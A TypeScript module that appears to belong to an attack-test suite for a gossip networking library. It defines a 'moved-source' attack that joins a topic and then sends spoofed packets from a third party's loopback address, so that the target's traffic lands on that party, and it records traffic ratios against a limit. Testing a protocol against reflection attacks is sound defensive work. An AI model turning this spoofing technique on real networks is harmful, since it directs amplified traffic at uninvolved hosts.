import { GOSSIP_ALPN } from '@grapevine/net';
import { topicIdToBytes } from '@grapevine/proto';
import type { Attack } from '../attack.js';
import { ATTACKER_HOST, frame, message } from '../raw-peer.js';
import { UdpSender } from '../udp-sender.js';

const VICTIM_HOST = '127.0.0.3';

/** Joins, so that it has something to get, and then sends one genuine packet from somebody else's address (X1, X9). */
export const movedSource: Attack = {
  name: 'moved-source',
  what: "a neighbor that sends from a third party's address, so that it gets the payloads",
  standing: 'neighbor',
  limits: { thirdPartyFactor: 3 },
  async run({ kit, target, topic, traffic, signal, pause }) {
    const spoofed = { sent: 0, received: 0 };
    const elsewhere = await UdpSender.bind(VICTIM_HOST, target.socket, spoofed);
    const join = Buffer.concat([frame(topicIdToBytes(topic)), message({ type: 'join', data: undefined })]);
    while (!signal.aborted) {
      await using client = await kit.connect(target.socket, { alpn: GOSSIP_ALPN, host: ATTACKER_HOST });
      client.send(kit.frames.stream(2, 0, join), kit.frames.maxData(1 << 30));
      await pause(50);
      for (let i = 0; i < 10 && !signal.aborted; i++) {
        const rubbish = Buffer.alloc(1_200, 0x40);
        elsewhere.send(client.packet(kit.frames.ping()));
        elsewhere.send(rubbish);
        await pause(50);
      }
      traffic.sent += client.sent + spoofed.sent;
      traffic.received += client.received;
      traffic.thirdParty += spoofed.received;
      spoofed.sent = spoofed.received = 0;
    }
  },
};
